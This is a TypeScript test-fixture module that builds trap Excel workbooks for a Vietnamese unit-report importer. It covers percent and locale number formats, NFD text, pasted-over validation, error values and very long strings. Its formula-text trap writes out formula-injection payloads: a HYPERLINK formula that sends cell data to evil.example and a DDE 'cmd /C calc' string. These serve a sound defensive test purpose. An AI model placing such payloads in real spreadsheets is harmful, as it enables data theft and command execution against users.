/** Traps in the values units type: percent and number writings, NFD, pasted values, formula text, error values, long text. */
import { bytesOf, unitBook, worksheetOf } from "./build";
import { accepted, at, counts, known, type Trap } from "./kit";

export const VALUE_TRAPS: Readonly<Record<string, Trap>> = {
  async clean(unit) {
    const b = await unitBook(unit);
    const [c0] = counts(b, 1);
    const values = [known(b, c0 ?? "", 4321)];
    return {
      file: `01-clean-${unit}.xlsx`,
      title: "A clean report (control)",
      trap: "none",
      bytes: await bytesOf(b.wb),
      expect: { status: "accepted", issues: [], noErrors: true },
      libreoffice: true,
      values,
    };
  },

  async percents(unit) {
    const b = await unitBook(unit);
    const rates = b.indicators("rate").slice(0, 4);
    const typed = ["85%", 85, "85,5 %", 0.001];
    const cells = rates.map((r, i) => b.set("indicators", r.code, "value", typed[i] ?? null));
    return {
      file: `02-percent-forms-${unit}.xlsx`,
      title: 'Rate formulas overwritten with "85%", 85, "85,5 %" and 0.001 (0.1 % typed into a %-cell)',
      trap: "Percentages arrive as 0.85, 85, 85%, 85,5%; a %-cell turns 0.1 into 0.001; a number in a rate cell is a fraction (85 is 8500 %)",
      bytes: await bytesOf(b.wb),
      ...accepted(
        b,
        cells.map((c, i) => at(typed[i] === 85 ? "rate_out_of_range" : "value_read", b.sheet("indicators"), c)),
      ),
    };
  },

  async vietnameseNumbers(unit) {
    const b = await unitBook(unit);
    const [c0, c1, c2] = counts(b, 3);
    const task = b.tasks()[0] ?? "";
    const ind = b.sheet("indicators");
    const issues = [
      at("value_read", ind, b.set("indicators", c0 ?? "", "value", "1.250")),
      at("fractional_count", ind, b.set("indicators", c1 ?? "", "value", "12,5")),
      at("value_read", ind, b.set("indicators", c2 ?? "", "value", "1 250")),
      at("value_read", b.sheet("info"), b.setInfo("submitted", "12/12/2025")),
    ];
    b.set("tasks", task, "status", "Hoàn thành quá hạn");
    b.set("tasks", task, "evidence", "15/BC-UBND");
    issues.push(at("value_read", b.sheet("tasks"), b.set("tasks", task, "completed", "06/25/2025")));
    return {
      file: `03-vietnamese-numbers-dates-${unit}.xlsx`,
      title: 'Counts typed "1.250", "12,5", "1 250"; dates typed dd/mm/yyyy and mm/dd/yyyy',
      trap: "Decimal comma, dot for thousands, dd/mm/yyyy dates, day and month swapped",
      bytes: await bytesOf(b.wb),
      ...accepted(b, issues),
    };
  },

  async textNumbers(unit) {
    const b = await unitBook(unit);
    const [c0, c1] = counts(b, 2);
    const ind = b.sheet("indicators");
    const issues = [
      at("value_read", ind, b.set("indicators", c0 ?? "", "value", "12")),
      at("not_a_number", ind, b.set("indicators", c1 ?? "", "value", "2000 hồ sơ")),
    ];
    return {
      file: `04-numbers-as-text-${unit}.xlsx`,
      title: 'A count stored as the text "12", another as "2000 hồ sơ"',
      trap: "Numbers stored as text; text such as 2000 hồ sơ must not become 0",
      bytes: await bytesOf(b.wb),
      ...accepted(b, issues),
    };
  },

  async nfd(unit) {
    const b = await unitBook(unit);
    const task = b.tasks()[0] ?? "";
    const issues = [
      at("value_read", b.sheet("info"), b.setInfo("unit_name", b.unit.nameVi.normalize("NFD"))),
      at("value_read", b.sheet("info"), b.setInfo("reporter", "Nguyễn Thị Hằng".normalize("NFD"))),
    ];
    b.set("tasks", task, "status", "Đang triển khai".normalize("NFD"));
    issues.push(at("value_read", b.sheet("tasks"), b.cell("tasks", task, "status")));
    return {
      file: `05-${"báo-cáo-tổ-hợp".normalize("NFD")}-${unit}.xlsx`,
      title: "Unit name, reporter and a task status typed in decomposed Unicode (NFD); the file name too",
      trap: "Vietnamese text in NFD from other keyboards; unit names typed in NFD",
      bytes: await bytesOf(b.wb),
      ...accepted(b, issues),
    };
  },

  async pasted(unit) {
    const b = await unitBook(unit);
    const [c0, c1] = counts(b, 2);
    const task = b.tasks()[0] ?? "";
    const ind = b.sheet("indicators");
    const issues = [
      at("negative_count", ind, b.set("indicators", c0 ?? "", "value", -5)),
      at("fractional_count", ind, b.set("indicators", c1 ?? "", "value", 3.5)),
      at("invalid_choice", b.sheet("tasks"), b.set("tasks", task, "status", "Xong")),
      at("not_a_date", b.sheet("tasks"), b.set("tasks", task, "completed", "31/02/2025")),
    ];
    return {
      file: `06-pasted-over-validation-${unit}.xlsx`,
      title: 'Pasted over the validated cells: status "Xong", count -5 and 3.5, date 31/02/2025',
      trap: "Paste bypasses data validation",
      bytes: await bytesOf(b.wb),
      ...accepted(b, issues),
    };
  },

  async formulaText(unit) {
    const b = await unitBook(unit);
    const [c0, c1] = counts(b, 2);
    const task = b.tasks()[0] ?? "";
    b.set("indicators", c0 ?? "", "explanation", '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")');
    const cell = b.set("indicators", c1 ?? "", "value", "=1+1");
    b.set("tasks", task, "evidence", "+cmd|' /C calc'!A0");
    b.set("tasks", task, "note", "-2+3");
    b.setInfo("reporter", "@SUM(1+1)");
    b.setInfo("position", "=1+1");
    worksheetOf(b, "tasks").name = "=1+2";
    return {
      file: "=SUM(1+1)-17-formula-text.xlsx",
      title:
        "Text starting with = + - @ in an explanation, evidence, note, reporter, position, a count and a sheet name; the file name too",
      trap: "Formula injection: text beginning with = + - @",
      bytes: await bytesOf(b.wb),
      ...accepted(b, [at("not_a_number", b.sheet("indicators"), cell)]),
    };
  },

  async formulasAndErrors(unit) {
    const b = await unitBook(unit);
    const [c0, c1, c2, c3] = counts(b, 4);
    const ind = b.sheet("indicators");
    const issues = [
      at("error_value", ind, b.set("indicators", c0 ?? "", "value", { formula: "1/0", result: { error: "#DIV/0!" } })),
      at("error_value", ind, b.set("indicators", c1 ?? "", "value", { formula: 'INDIRECT("ZZZ0")', result: { error: "#REF!" } })),
      at("error_value", ind, b.set("indicators", c2 ?? "", "value", { error: "#N/A" })),
    ];
    const cell = b.set("indicators", c3 ?? "", "value", { formula: "10+5", result: 15 });
    return {
      file: `18-formulas-and-errors-${unit}.xlsx`,
      title: "Counts holding #DIV/0!, #REF! and #N/A, and a formula =10+5",
      trap: "Formulas and error values",
      bytes: await bytesOf(b.wb),
      ...accepted(b, issues, { values: [{ indicator: c3 ?? "", sheet: ind, cell, value: 15 }] }),
    };
  },

  async longText(unit) {
    const b = await unitBook(unit);
    const [c0, c1] = counts(b, 2);
    b.set("indicators", c0 ?? "", "explanation", "Giải trình rất dài. ".repeat(1638).slice(0, 32_767));
    const cell = b.set("indicators", c1 ?? "", "value", "9".repeat(40_000));
    b.setInfo("reporter", "Nguyễn ".repeat(4681));
    return {
      file: `21-very-long-text-${unit}.xlsx`,
      title: "An explanation of 32,767 characters (Excel's limit) and a count holding 40,000 digits",
      trap: "Very long strings",
      bytes: await bytesOf(b.wb),
      ...accepted(b, [at("text_too_long", b.sheet("indicators"), cell)], { libreoffice: false }),
    };
  },
};
